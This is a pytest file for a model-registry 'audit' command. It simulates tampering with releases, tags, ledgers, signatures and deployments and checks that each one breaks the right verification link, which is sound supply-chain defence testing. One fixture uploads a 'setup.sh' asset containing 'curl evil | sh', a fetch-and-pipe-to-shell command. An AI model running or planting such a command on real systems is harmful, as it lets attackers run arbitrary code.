"""An honest version has no broken link; each way to tamper breaks the link that tells of it. All over real HTTP."""

import hashlib
import json
import re
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any, NamedTuple

import model_signing
import msgspec
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from merganser import git
from merganser.commands.audit import command as audit
from merganser.errors import ConfigError
from merganser.forge.mirror import credentials
from merganser.forge.secret import Secret
from merganser.git import Repository
from merganser.registry.audit.links import Chain, Link, State
from tests.architecture.layers import REPO as LAYOUT
from tests.commands.shipped import TAG, Shipped, of_state, rewritten
from tests.commands.stage import REPO

LEDGER = "refs/remotes/origin/merganser-ledger"
PUSHED = "refs/heads/merganser-ledger"


def exits(shipped: Shipped, chains: tuple[Chain, ...], **fields: Any) -> int:
    return audit.exit_code(audit.Request(folder=shipped.model, version=TAG, **fields), chains)


def broken(chains: tuple[Chain, ...]) -> dict[str, Link]:
    return of_state(chains, State.broken)


def test_an_honest_version_is_verified_link_by_link(shipped: Shipped) -> None:
    chains = shipped.audit()
    assert broken(chains) == {}
    assert set(of_state(chains, State.unverifiable)) == {
        "ledger/as seen before",
        "release/SHA256SUMS",
        "evidence/model.sig",
        "people/approved",
    }
    assert {
        "tag/commit", "tag/on GitHub", "ledger/only added to", "ledger/record", "run/run.json", "run/inputs",
        "run/trained tree", "run/trained", "verdict/verdict.json", "verdict/passed", "release/published",
        "release/model.json", "release/model file model.json", "evidence/bom.cdx.json",
        "evidence/provenance.intoto.json", "people/merged",
    } <= set(of_state(chains, State.verified))  # fmt: skip
    assert exits(shipped, chains) == 0
    asset = next(one for one in shipped.release()["assets"] if one["name"] == "model.json")
    assert of_state(chains, State.verified)["release/model.json"].says == asset["digest"]


def test_what_an_environment_runs(shipped: Shipped) -> None:
    there = shipped.audit(None, env="staging")
    assert broken(there) == {}
    found = of_state(there, State.verified)
    assert {"environment staging/model", "environment staging/commit", "tag/commit"} <= set(found)
    assert found["environment staging/deployed by"].says.startswith(
        "acme/environments#1 by merganser[bot], merged by ada"
    )
    here = shipped.audit("tiny", env="staging", environments=shipped.environments)
    assert set(of_state(here, State.verified)) == set(found)
    assert shipped.audit(None, env="production") == ()
    with pytest.raises(ConfigError, match="'prod' is no environment"):
        shipped.audit(None, env="prod")


def test_offline_says_so_wherever_only_github_could_tell(shipped: Shipped) -> None:
    chains = shipped.audit(offline=True)
    asked = {name for name, link in of_state(chains, State.unverifiable).items() if "--offline" in link.says}
    assert asked == {
        "tag/standing",
        "tag/on GitHub",
        "ledger/on GitHub",
        "run/trained",
        "release/published",
        "people/merged",
        "people/approved",
    }
    assert broken(chains) == {}
    with pytest.raises(ConfigError, match="environments repo can't be read"):
        shipped.audit(None, env="staging", offline=True)


def test_a_refusal_of_githubs_is_a_reason_and_no_error(shipped: Shipped) -> None:
    away = msgspec.structs.replace(shipped.runtime, api_url="http://127.0.0.1:9/api/v3", token=Secret(""))
    chains = audit.audit(audit.Request(folder=shipped.model, everything=True), away)
    said = {link.says for link in of_state(chains, State.unverifiable).values()}
    assert any(
        says.startswith("GitHub doesn't answer for acme/tiny, without a token (GITHUB_TOKEN): ") for says in said
    )
    assert exits(shipped, chains) == 0
    assert exits(shipped, chains, strict=True) == 1


def test_strict_counts_what_could_be_verified_and_nothing_beyond(shipped: Shipped) -> None:
    """A signature without a key and sums that can change count; what no fresh clone can know doesn't."""
    chains = shipped.audit(None, env="staging")
    counting = [link for link in of_state(chains, State.unverifiable).values() if not link.beyond]
    assert {"SHA256SUMS", "model.sig"} <= {link.name for link in counting}
    assert (exits(shipped, chains), exits(shipped, chains, strict=True)) == (0, 1)
    sections = (msgspec.structs.replace(s, links=tuple(x for x in s.links if x not in counting))
                for s in chains[0].sections)  # fmt: skip
    kept = msgspec.structs.replace(chains[0], sections=tuple(sections))
    assert set(of_state((kept,), State.unverifiable)) == {
        "environment staging/served bytes", "environment staging/approved", "ledger/as seen before", "people/approved"
    }  # fmt: skip
    assert exits(shipped, (kept,), strict=True) == 0


@pytest.mark.parametrize(
    ("wanted", "said"),
    [
        ("tiny@v0.0.9", "staging runs no 'tiny@v0.0.9'; it runs tiny@v0.1.0"),
        ("tinny", "staging runs no 'tinny'; it runs tiny@v0.1.0; did you mean tiny?"),
        ("other@v0.1.0", "staging runs no 'other@v0.1.0'; it runs tiny@v0.1.0"),
    ],
)
def test_an_environment_that_does_not_run_what_was_named(wanted: str, said: str, shipped: Shipped) -> None:
    with pytest.raises(ConfigError) as refused:
        shipped.audit(wanted, env="staging", environments=shipped.environments)
    assert refused.value.message == said
    assert "--env staging" in refused.value.hint


def test_nothing_to_audit_is_said_and_no_error(shipped: Shipped) -> None:
    nothing = {"env": "production", "environments": shipped.environments}
    asked = audit.Request(folder=shipped.model, **nothing)
    assert shipped.audit(None, **nothing) == ()
    assert audit.answer(asked, (), as_json=False).startswith("production runs no version of any model yet")
    with pytest.raises(ConfigError, match="production runs no 'tiny'; it runs nothing yet"):
        shipped.audit("tiny", **nothing)
    for number in ("v0.1.0", "0.1.0"):
        assert len(shipped.audit(f"tiny@{number}", env="staging", environments=shipped.environments)) == 1
    shipped.git("tag", "--delete", TAG)
    asked = audit.Request(folder=shipped.model, everything=True)
    assert shipped.audit(None, everything=True) == ()
    assert "no version yet" in audit.answer(asked, (), as_json=False)


@pytest.mark.parametrize(
    ("fields", "said"),
    [
        ({}, "what to audit is not clear"),
        ({"everything": True, "env": "staging"}, "--all and --env exclude each other"),
        ({"everything": True, "version": "tiny"}, "--all and 'tiny' exclude each other"),
        ({"version": "tinny"}, "'tinny' is no version in this clone; did you mean tiny?"),
        ({"version": "tiny@v0.1.1"}, "'tiny@v0.1.1' is no version in this clone; did you mean tiny@v0.1.0?"),
    ],
)
def test_a_request_that_means_nothing_says_why(fields: dict[str, Any], said: str, shipped: Shipped) -> None:
    with pytest.raises(ConfigError) as refused:
        shipped.audit(**{"version": None, "offline": True, **fields})
    assert refused.value.message == said


def test_a_missing_environments_repo_is_told_before_github_is_asked(shipped: Shipped) -> None:
    file = shipped.model / "merganser.yaml"
    file.write_text(file.read_text().partition("environments:")[0])
    nowhere = msgspec.structs.replace(shipped.runtime, repository="")
    shipped.git("remote", "set-url", "origin", str(shipped.folder))
    with pytest.raises(ConfigError, match="names no environments repo"):
        audit.audit(audit.Request(folder=shipped.model, env="staging"), nowhere)


def test_a_version_that_was_deregistered(shipped: Shipped) -> None:
    """By a tag that only GitHub has, then by one that this clone has too: no tampering, but not to be run."""
    assert of_state(shipped.audit(), State.verified)["tag/standing"].says == "active"
    name = f"{TAG}!"
    commit = shipped.git("rev-parse", f"{TAG}^{{}}")
    # After the registration, whenever that was: 2096-10-02.
    head = f"object {commit}\ntype commit\ntag {name}\ntagger Eve <eve@example.org> 4000000000 +0000\n"
    tag = shipped.git("mktag", stdin=f"{head}\nDeregistering artifact tiny version v0.1.0\n")
    shipped.git("update-ref", f"refs/tags/{name}", tag)
    shipped.git("push", "--quiet", "origin", f"refs/tags/{name}")
    here = shipped.audit()
    assert broken(here) == {}
    assert of_state(here, State.verified)["tag/standing"].says == (
        "deregistered by Eve on 2096-10-02: it no longer counts"
    )
    assert "by Eve" in of_state(shipped.audit(offline=True), State.verified)["tag/standing"].says
    deployed = broken(shipped.audit(None, env="staging", environments=shipped.environments))
    assert set(deployed) == {"tag/standing"}
    assert deployed["tag/standing"].says == "staging runs a version that was deregistered"
    shipped.git("tag", "--delete", name)
    there = shipped.audit()
    assert "git fetch --tags" in of_state(there, State.verified)["tag/standing"].says
    assert set(broken(shipped.audit(None, env="staging", environments=shipped.environments))) == {"tag/standing"}


def test_the_command_exits_with_1_where_a_link_is_broken(shipped: Shipped) -> None:
    def said(*args: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "merganser", "audit", *args]
        return subprocess.run(command, cwd=shipped.model, capture_output=True, text=True, check=False)

    assert said(TAG, "--offline").returncode == 0
    shipped.git("tag", "--force", "--annotate", "-m", "Registering artifact tiny version v0.1.0", "tiny@v0.9.0", "HEAD")
    shipped.git("update-ref", LEDGER, rewritten(Repository(shipped.model), LEDGER, *better(shipped)))
    found = said("--all", "--offline", "--json")
    assert found.returncode == 1, found.stderr
    answer = json.loads(found.stdout)
    assert [chain["subject"] for chain in answer["chains"]] == ["tiny@v0.1.0", "tiny@v0.9.0"]
    assert answer["broken"] == 2
    assert [said(*wrong).returncode for wrong in ((), ("tiny@v7.0.0",), (TAG, "--all"))] == [2, 2, 2]


# Tampering: what was done, and the links that have to tell.


def test_a_changed_byte_of_the_model(shipped: Shipped) -> None:
    content = shipped.asset("model.json")
    shipped.replace("model.json", bytes([content[0] ^ 1]) + content[1:])
    found = broken(shipped.audit())
    assert set(found) == {"release/model.json", "release/model file model.json"}
    assert found["release/model.json"].expected != found["release/model.json"].found


def test_a_changed_byte_with_new_sums(shipped: Shipped) -> None:
    """Whoever changes the sums too is told by the run."""
    content = shipped.asset("model.json")
    sums = shipped.asset("SHA256SUMS")
    old, new = (hashlib.sha256(data).hexdigest().encode() for data in (content, b"other"))
    shipped.replace("model.json", b"other")
    shipped.replace("SHA256SUMS", sums.replace(old, new))
    assert set(broken(shipped.audit())) == {"release/model file model.json"}


def test_an_edited_run(shipped: Shipped) -> None:
    run = json.loads(shipped.asset("run.json"))
    run["metrics"]["accuracy"] = 0.999
    shipped.replace("run.json", json.dumps(run).encode())
    found = broken(shipped.audit())
    assert set(found) == {"run/run.json", "release/run.json"}
    link = found["run/run.json"]
    assert (link.expected, link.found) == ("metrics.accuracy 0.99", "metrics.accuracy 0.999")


def test_an_edited_verdict(shipped: Shipped) -> None:
    verdict = json.loads(shipped.asset("verdict.json"))
    verdict["trust"] = "sealed"
    shipped.replace("verdict.json", json.dumps(verdict).encode())
    assert set(broken(shipped.audit())) == {"verdict/verdict.json", "release/verdict.json"}


def test_a_lost_and_a_new_asset(shipped: Shipped) -> None:
    shipped.delete("model-card.md")
    shipped.upload("setup.sh", b"curl evil | sh")
    assert set(broken(shipped.audit())) == {"release/model-card.md", "release/setup.sh"}


def test_evidence_that_was_taken_away_with_its_sums(shipped: Shipped) -> None:
    sums = shipped.asset("SHA256SUMS")
    for name in ("run.json", "verdict.json", "model-card.md"):
        sums = b"".join(line for line in sums.splitlines(keepends=True) if name.encode() not in line)
        shipped.delete(name)
    shipped.replace("SHA256SUMS", sums)
    assert set(broken(shipped.audit())) == {"release/run.json", "release/verdict.json", "release/model-card.md"}


def test_a_release_that_was_deleted(shipped: Shipped) -> None:
    shipped.ask("DELETE", shipped.release()["url"])
    assert set(broken(shipped.audit())) == {"release/published"}


def test_a_moved_tag(shipped: Shipped) -> None:
    message = shipped.git("for-each-ref", "--format=%(contents)", f"refs/tags/{TAG}")
    shipped.git("tag", "--force", "--annotate", "--file=-", TAG, "HEAD~1", stdin=message)
    assert set(broken(shipped.audit())) == {"tag/commit", "tag/on GitHub", "run/inputs"}
    shipped.git("push", "--quiet", "--force", "origin", f"refs/tags/{TAG}")
    found = broken(shipped.audit())
    assert set(found) == {"tag/commit", "run/inputs"}
    assert found["tag/commit"].found == shipped.git("rev-parse", "HEAD~1")


def test_a_tag_that_was_made_again_without_its_evidence(shipped: Shipped) -> None:
    """It names no record any more; the record of its new commit is not what the release holds."""
    shipped.git("tag", "--force", "--annotate", "-m", "Registering artifact tiny version v0.1.0", TAG, "HEAD~1")
    shipped.git("push", "--quiet", "--force", "origin", f"refs/tags/{TAG}")
    found = set(broken(shipped.audit()))
    assert {"run/run.json", "verdict/verdict.json", "release/model file model.json"} <= found
    assert {name for name in found if name.startswith(("tag", "ledger", "people"))} == set()


def test_a_tag_that_was_deleted_on_github(shipped: Shipped) -> None:
    shipped.git("push", "--quiet", "origin", f":refs/tags/{TAG}")
    assert set(broken(shipped.audit())) == {"tag/on GitHub"}


def record_path(shipped: Shipped) -> str:
    message = shipped.git("for-each-ref", "--format=%(contents)", f"refs/tags/{TAG}")
    return next(line.removeprefix("Ledger: ") for line in message.splitlines() if line.startswith("Ledger: "))


def better(shipped: Shipped) -> tuple[str, bytes]:
    """The record that the tag names, with a better accuracy."""
    path = record_path(shipped)
    record = json.loads(shipped.git("show", f"{LEDGER}:{path}"))
    record["metrics"]["accuracy"] = 1.0
    return path, json.dumps(record).encode()


def test_a_ledger_that_was_replaced(shipped: Shipped) -> None:
    commit = rewritten(Repository(shipped.model), LEDGER, *better(shipped))
    shipped.git("push", "--quiet", "--force", "origin", f"{commit}:{PUSHED}")
    shipped.git("fetch", "--quiet", "origin")
    found = broken(shipped.audit())
    assert set(found) == {"ledger/as seen before", "run/run.json"}
    assert found["run/run.json"].expected == "metrics.accuracy 1.0"


def test_a_clone_that_saw_the_ledger_before_it_was_replaced(shipped: Shipped) -> None:
    """It tells without fetching: GitHub's branch doesn't continue what the clone has."""
    commit = rewritten(Repository(shipped.model), LEDGER, *better(shipped))
    fresh = shipped.folder / "eve"
    env = credentials(Secret(shipped.token), shipped.hub.url)
    git.run(["clone", "-q", "--bare", str(shipped.model), str(fresh)], shipped.folder)
    git.run(["fetch", "-q", str(shipped.model), commit], fresh)
    git.run(["push", "-q", "--force", f"{shipped.hub.url}/{REPO}.git", f"{commit}:{PUSHED}"], fresh, env=env)
    assert set(broken(shipped.audit())) == {"ledger/on GitHub"}


def test_a_record_that_was_changed_by_one_more_commit(shipped: Shipped) -> None:
    path, content = better(shipped)
    shipped.git("checkout", "--quiet", "-b", "ledger", LEDGER)
    (shipped.model / path).write_bytes(content)
    shipped.git("commit", "--quiet", "--all", "--message", "Better")
    shipped.git("push", "--quiet", "origin", f"HEAD:{PUSHED}")
    shipped.git("checkout", "--quiet", "main")
    found = broken(shipped.audit())
    assert set(found) == {"ledger/only added to", "run/run.json"}
    assert found["ledger/only added to"].found == f"{path} changed"


def test_a_verdict_that_was_changed_and_a_record_that_was_deleted(shipped: Shipped) -> None:
    shipped.git("checkout", "--quiet", "-b", "ledger", LEDGER)
    path = record_path(shipped)
    stem = path.removeprefix("runs/").removesuffix(".json")
    verdict = next((shipped.model / "verdicts").glob(f"{stem}-*.json"))
    verdict.write_text(verdict.read_text().replace("self-reported", "sealed"))
    (shipped.model / path).unlink()
    shipped.git("commit", "--quiet", "--all", "--message", "Clean up")
    shipped.git("push", "--quiet", "origin", f"HEAD:{PUSHED}")
    shipped.git("checkout", "--quiet", "main")
    found = broken(shipped.audit())
    assert set(found) == {"ledger/only added to", "ledger/contents", "ledger/record"}
    assert "and 1 more" in found["ledger/only added to"].says


def test_a_shallow_clone_cannot_tell_whether_the_ledger_was_only_added_to(shipped: Shipped) -> None:
    """Of a ledger with a changed record: the commit that changed it is the oldest that the clone has."""
    path, content = better(shipped)
    shipped.git("checkout", "--quiet", "-b", "ledger", LEDGER)
    (shipped.model / path).write_bytes(content)
    shipped.git("commit", "--quiet", "--all", "--message", "Better")
    shipped.git("push", "--quiet", "origin", f"HEAD:{PUSHED}")
    env = credentials(Secret(shipped.token), shipped.hub.url)
    shallow, url = shipped.folder / "shallow", f"{shipped.hub.url}/{REPO}.git"
    git.run(["clone", "-q", "--depth=1", "--no-single-branch", url, str(shallow)], shipped.folder, env=env)
    git.run(["fetch", "-q", "--depth=1", "origin", "tag", TAG], shallow, env=env)
    chains = audit.audit(audit.Request(folder=shallow, version=TAG), shipped.runtime)
    assert set(broken(chains)) == {"run/run.json"}
    assert "--unshallow" in of_state(chains, State.unverifiable)["ledger/only added to"].says
    shipped.git("commit", "--quiet", "--allow-empty", "--message", "One more")
    shipped.git("push", "--quiet", "origin", f"HEAD:{PUSHED}")
    git.run(["fetch", "-q", "--depth=1", "origin"], shallow, env=env)
    later = audit.audit(audit.Request(folder=shallow, version=TAG), shipped.runtime)
    assert set(broken(later)) == {"run/run.json"}, "what it saw before is only cut off, not replaced"
    assert "--unshallow" in of_state(later, State.unverifiable)["ledger/as seen before"].says


def test_a_tag_whose_object_was_given_another_name(shipped: Shipped) -> None:
    """The evidence of one version, for a number that nobody registered."""
    shipped.git("update-ref", "refs/tags/tiny@v9.0.0", f"refs/tags/{TAG}")
    found = broken(shipped.audit("tiny@v9.0.0"))
    assert found["tag/annotated"].found == TAG


def test_a_ledger_that_was_deleted(shipped: Shipped) -> None:
    shipped.git("push", "--quiet", "origin", f":{PUSHED}")
    assert set(broken(shipped.audit())) == {"ledger/branch"}


def test_a_deployment_that_nobody_reviewed(shipped: Shipped) -> None:
    """Another digest, pushed past the pull request."""
    file = shipped.environments / "staging" / "tiny" / "release.yaml"
    digest = next(line.split()[-1] for line in file.read_text().splitlines() if line.startswith("  digest"))
    file.write_text(file.read_text().replace(digest, "sha256:" + "0" * 64))
    env = credentials(Secret(shipped.token), shipped.hub.url)
    who = ("-c", "user.name=Eve", "-c", "user.email=eve@example.org")
    git.run([*who, "commit", "-qam", "Faster"], shipped.environments)
    git.run(["push", "-q", "origin", "HEAD:main"], shipped.environments, env=env)
    for fields in ({}, {"environments": shipped.environments}):
        found = broken(shipped.audit(None, env="staging", **fields))
        assert set(found) == {"environment staging/model", "environment staging/deployed by"}


# Signatures, made by the library itself over the bytes that the release serves


class Pair(NamedTuple):
    """The files of a private and of its public key."""

    private: Path
    public: Path


def key_pair(folder: Path, name: str) -> Pair:
    key = ec.generate_private_key(ec.SECP256R1())
    pair = Pair(folder / f"{name}.key", folder / f"{name}.pub")
    pem = serialization.Encoding.PEM
    nothing = serialization.NoEncryption()
    pair.private.write_bytes(key.private_bytes(pem, serialization.PrivateFormat.PKCS8, nothing))
    public = key.public_key().public_bytes(pem, serialization.PublicFormat.SubjectPublicKeyInfo)
    pair.public.write_bytes(public)
    return pair


def signature(shipped: Shipped, key: Pair, **files: bytes) -> bytes:
    """`model.sig` over the release's model, or over other files."""
    folder = Path(tempfile.mkdtemp(dir=shipped.folder))
    for name, content in (files or {"model.json": shipped.asset("model.json")}).items():
        (folder / name).write_bytes(content)
    out = shipped.folder / f"{folder.name}.sig"
    model_signing.signing.Config().use_elliptic_key_signer(private_key=key.private).sign(folder, out)
    return out.read_bytes()


def test_a_signature_is_verified_by_a_key_or_told_as_unverified(shipped: Shipped) -> None:
    ours, other = key_pair(shipped.folder, "ours"), key_pair(shipped.folder, "other")
    shipped.upload("model.sig", signature(shipped, ours))
    signed = shipped.audit(key=ours.public)
    assert broken(signed) == {}
    assert {"evidence/model.sig", "evidence/model.sig is over"} <= set(of_state(signed, State.verified))
    keyless = of_state(shipped.audit(), State.unverifiable)["evidence/model.sig"]
    assert "--key" in keyless.says
    assert set(broken(shipped.audit(key=other.public))) == {"evidence/model.sig"}
    with pytest.raises(ConfigError, match="is no public key"):
        shipped.audit(key=ours.private)
    with pytest.raises(ConfigError, match="two ways to sign"):
        shipped.audit(key=ours.public, identity="https://github.com/acme/tiny/.github/workflows/a.yml@refs/heads/main")


def test_a_swapped_signature(shipped: Shipped) -> None:
    """By somebody else's key; and of ours, but over another model."""
    ours, eve = key_pair(shipped.folder, "ours"), key_pair(shipped.folder, "eve")
    shipped.upload("model.sig", signature(shipped, eve))
    assert set(broken(shipped.audit(key=ours.public))) == {"evidence/model.sig"}
    shipped.replace("model.sig", signature(shipped, ours, **{"model.json": b"an older model"}))
    assert set(broken(shipped.audit(key=ours.public))) == {"evidence/model.sig", "evidence/model.sig is over"}
    assert set(broken(shipped.audit())) == {"evidence/model.sig is over"}, "also without a key"


def test_a_signature_over_more_or_less_than_the_model(shipped: Shipped) -> None:
    ours = key_pair(shipped.folder, "ours")
    shipped.upload("model.sig", signature(shipped, ours, **{"run.json": shipped.asset("run.json")}))
    assert set(broken(shipped.audit(key=ours.public))) == {"evidence/model.sig is over"}
    shipped.replace("model.sig", b"{}")
    assert set(broken(shipped.audit(key=ours.public))) == {"evidence/model.sig", "evidence/model.sig is over"}


def test_an_edited_bill_and_provenance(shipped: Shipped) -> None:
    """With sums to match: the run tells."""
    digest = hashlib.sha256(shipped.asset("model.json")).hexdigest().encode()
    sums = shipped.asset("SHA256SUMS")
    for name in ("bom.cdx.json", "provenance.intoto.json"):
        content = shipped.asset(name)
        edited = content.replace(digest, b"0" * 64)
        assert edited != content
        shipped.replace(name, edited)
        sums = sums.replace(*(hashlib.sha256(data).hexdigest().encode() for data in (content, edited)))
    shipped.replace("SHA256SUMS", sums)
    assert set(broken(shipped.audit())) == {"evidence/bom.cdx.json", "evidence/provenance.intoto.json"}


# The page


def shown(command: str) -> str:
    """What docs/registry.md says that a command answers."""
    page = (LAYOUT / "docs" / "registry.md").read_text(encoding="utf-8")
    return page.split(f"```console\n$ {command}\n")[1].split("\n```")[0]


def masked(text: str) -> str:
    """Without what differs from one hub to the next: digests, times, the server."""
    text = re.sub(r"https?://(127\.0\.0\.1:\d+|github\.com)", "SERVER", text)
    text = re.sub(r"\d{4}-\d\d-\d\d(T\d\d:\d\d:\d\dZ)?", "TIME", text)
    return re.sub(r"\b[0-9a-f]{12,64}\b", "HASH", text)


def test_the_page_shows_an_audit(shipped: Shipped) -> None:
    asked = audit.Request(folder=shipped.model, env="staging")
    assert masked(audit.answer(asked, shipped.audit(None, env="staging"), as_json=False)) == masked(
        shown("merganser audit --env staging")
    )


def test_the_page_shows_a_broken_one(shipped: Shipped) -> None:
    shipped.replace("model.json", b'{"a": 1, "b": 1}')
    asked = audit.Request(folder=shipped.model, version=TAG)
    tree = audit.answer(asked, shipped.audit(), as_json=False)
    found = subprocess.run(["grep", "-A2", "✗"], input=tree, capture_output=True, text=True, check=True).stdout
    assert masked(found.rstrip()) == masked(shown(f"merganser audit {TAG} | grep -A2 ✗"))
